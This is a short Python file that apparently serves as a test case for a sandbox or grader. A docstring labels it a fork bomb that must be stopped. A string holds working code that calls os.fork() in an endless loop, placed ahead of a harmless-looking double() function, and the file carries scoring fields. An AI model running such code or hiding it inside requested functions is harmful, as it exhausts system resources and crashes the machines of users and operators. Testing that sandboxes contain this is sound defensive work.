"""A fork bomb.

Attempts: fork without end.
Must: be stopped; what was earned before is kept.
"""

DOUBLE = """
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

def double(array):
    return 2 * array
"""
EARN = {"mean": 2, "double": 0}
SAYS = "the kernel"
